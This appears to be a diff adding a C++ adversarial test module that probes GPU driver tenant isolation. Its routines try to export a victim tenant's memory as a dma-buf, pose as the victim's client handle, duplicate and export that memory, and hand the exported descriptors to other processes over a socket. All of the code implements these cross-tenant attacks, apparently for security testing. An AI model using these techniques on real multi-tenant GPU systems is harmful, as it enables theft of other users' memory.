@@ -1,0 +1,180 @@
+// Attacks that carry others' objects away in files: dma-bufs and exports, which live on when
+// everybody whose memory it was is gone.
+#include <fcntl.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <cstring>
+
+#include "common.h"
+#include "rm/escape_table.h"
+#include "rm/nv_controls.h"
+#include "rm/nv_ctrl.h"
+
+namespace cgpu::adversary {
+namespace {
+
+constexpr std::uint32_t kOwnHandles = 0xcb000000;
+
+std::uint32_t Handle(const std::vector<std::string>& args, std::size_t index) {
+  return static_cast<std::uint32_t>(Number(args, index, 0));
+}
+
+// NV_ESC_EXPORT_TO_DMABUF_FD in 550's layout (nv-ioctl.h nv_ioctl_export_to_dma_buf_fd_t).
+struct DmaBuf {
+  std::int32_t fd;
+  std::uint32_t client;
+  std::uint32_t total_objects;
+  std::uint32_t objects;
+  std::uint32_t index;
+  std::uint64_t total_size;
+  std::uint32_t handles[128];
+  std::uint64_t offsets[128];
+  std::uint64_t sizes[128];
+  std::uint32_t status;
+};
+static_assert(sizeof(DmaBuf) == 2600);
+
+std::uint32_t ExportDmaBuf(int card, std::uint32_t client, std::uint32_t memory,
+                           const Issue& issue) {
+  DmaBuf call{};
+  call.fd = -1;
+  call.client = client;
+  call.total_objects = 1;
+  call.objects = 1;
+  call.total_size = kMiB;
+  call.handles[0] = memory;
+  call.sizes[0] = kMiB;
+  const int error = issue(card, rm::NV_ESC_EXPORT_TO_DMABUF_FD, &call, sizeof(call));
+  return error != 0 ? kNoAnswer : call.status;
+}
+
+// CLIENT MEMORY: the driver makes the duplicate for itself and does not ask whose the memory is.
+int DmaBufs(const std::vector<std::string>& args) {
+  const std::uint32_t victim = Handle(args, 0);
+  const std::uint32_t memory = Handle(args, 1);
+  const Client client = MakeClient();
+  const int spare = OpenControl();  // the simulated driver turns this into the dma-buf
+  Say("dma-buf 0x%x", ExportDmaBuf(client.card, victim, memory, Plainly));
+  const int second = OpenControl();
+  Say("wrapped 0x%x", ExportDmaBuf(client.card, victim, memory, Wrapped));
+  // Nothing of one's own is left but the files.
+  Say("freed 0x%x", client.Free(client.root));
+  Hold();
+  close(spare);
+  close(second);
+  return 0;
+}
+
+std::uint32_t ExportMany(const Client& client, const std::vector<std::uint32_t>& objects,
+                         int file) {
+  rm::NV0000_CTRL_OS_UNIX_EXPORT_OBJECTS_TO_FD_PARAMS params{};
+  params.fd = file;
+  params.hDevice = Client::kDevice;
+  params.maxObjects = static_cast<std::uint16_t>(objects.size());
+  params.numObjects = params.maxObjects;
+  std::copy(objects.begin(), objects.end(), params.objects);
+  return client.Control(client.root, rm::NV0000_CTRL_CMD_OS_UNIX_EXPORT_OBJECTS_TO_FD, &params,
+                        sizeof(params));
+}
+
+std::uint32_t ImportMany(Client& client, int file) {
+  rm::NV0000_CTRL_OS_UNIX_IMPORT_OBJECTS_FROM_FD_PARAMS params{};
+  params.fd = file;
+  params.hParent = Client::kDevice;
+  params.numObjects = 1;
+  params.objects[0] = client.next++;
+  return client.Control(client.root, rm::NV0000_CTRL_CMD_OS_UNIX_IMPORT_OBJECTS_FROM_FD, &params,
+                        sizeof(params));
+}
+
+// CLIENT MEMORY single|many: gives itself the right to the tenant's memory, copies it, exports the
+// copy and lets everything go but the file.
+int Extract(const std::vector<std::string>& args) {
+  const std::uint32_t victim = Handle(args, 0);
+  const std::uint32_t memory = Handle(args, 1);
+  const bool many = args.size() > 2 && args[2] == "many";
+  Client client = MakeClient();
+  client.next = kOwnHandles;
+  // By the handle alone, and on the tenant's client: these the driver refuses.
+  const int file = OpenControl();
+  Client posing = client;
+  posing.root = victim;
+  Say("foreign 0x%x", many ? ExportMany(client, {memory}, file) : client.Export(memory, file));
+  Say("posing 0x%x", many ? ExportMany(posing, {memory}, file) : posing.Export(memory, file));
+  Say("allow 0x%x", Share(client, victim, memory, client.root));
+  const std::uint32_t copy = client.next++;
+  Say("dup 0x%x", client.Dup(victim, memory, copy));
+  Say("export 0x%x", many ? ExportMany(client, {copy}, file) : client.Export(copy, file));
+  Say("freed 0x%x", client.Free(client.root));
+  close(client.ctl);
+  close(client.card);
+  Hold();
+  close(file);
+  return 0;
+}
+
+// NAME [MIB]: a tenant that hands an export with many places to whoever connects, or a single one
+// where it may make no such.
+int ManyExporter(const std::vector<std::string>& args) {
+  Client client = MakeClient();
+  std::uint32_t object = 0;
+  const int file = OpenControl();
+  if (client.AllocMemory(Number(args, 1, 512), &object) != rm::NV_OK || file < 0) {
+    Die("failed: no memory");
+  }
+  if (ExportMany(client, {object}, file) != rm::NV_OK && client.Export(object, file) != rm::NV_OK) {
+    Die("failed: no export");
+  }
+  const int listener = ListenAt(args.at(0));
+  Say("listening");
+  const int peer = accept4(listener, nullptr, nullptr, SOCK_CLOEXEC);
+  SendFd(peer, file);
+  Say("sent");
+  std::string line;
+  while (Line(&line)) {
+    Say(client.AllocMemory(1) == rm::NV_OK ? "undisturbed" : "disturbed");
+  }
+  return 0;
+}
+
+std::uint32_t Info(const Client& client, int file) {
+  rm::NV0000_CTRL_OS_UNIX_GET_EXPORT_OBJECT_INFO_PARAMS_V550 info{};
+  info.fd = file;
+  return client.Control(client.root, rm::NV0000_CTRL_CMD_OS_UNIX_GET_EXPORT_OBJECT_INFO, &info,
+                        sizeof(info));
+}
+
+// NAME: takes what comes from there, and asks about it.
+int ManyImporter(const std::vector<std::string>& args) {
+  Client client = MakeClient();
+  client.next = kOwnHandles;
+  const int file = ReceiveFd(ConnectTo(args.at(0)));
+  Say("info 0x%x", Info(client, file));
+  Say("import 0x%x", ImportMany(client, file));
+  close(file);
+  // About what is exported here there is an answer.
+  const int own = OpenControl();
+  std::uint32_t object = 0;
+  if (client.AllocMemory(1, &object) != rm::NV_OK || client.Export(object, own) != rm::NV_OK) {
+    Die("failed: no export");
+  }
+  Say("own info 0x%x", Info(client, own));
+  close(own);
+  (void)client.Free(object);  // what was imported stays
+  Hold();
+  return 0;
+}
+
+}  // namespace
+
+std::vector<Entry> TransferAttacks() {
+  return {
+      {"dma-buf", DmaBufs, "CLIENT MEMORY: the tenant's memory as a dma-buf"},
+      {"extract", Extract, "CLIENT MEMORY single|many: the tenant's memory in a file"},
+      {"many-exporter", ManyExporter, "NAME [MIB]: hands exported memory out"},
+      {"many-importer", ManyImporter, "NAME: imports what comes from there"},
+  };
+}
+
+}  // namespace cgpu::adversary
